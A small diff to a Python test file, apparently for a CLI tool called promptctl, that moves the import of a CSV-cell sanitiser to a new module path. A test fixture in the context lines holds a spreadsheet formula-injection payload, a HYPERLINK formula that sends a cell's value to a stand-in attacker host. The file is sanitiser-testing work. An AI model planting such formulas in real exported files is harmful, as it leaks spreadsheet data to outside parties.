@@ -15,7 +15,7 @@ import pytest
 
 from fakes.cli import run
 from fakes.llm_server import FakeLLM
-from promptctl.ledger.report import safe_csv_cell
+from promptctl.report.costs import safe_csv_cell
 
 TAGS = {
     '=HYPERLINK("http://evil.test/?q="&A1,"details")': "'=",
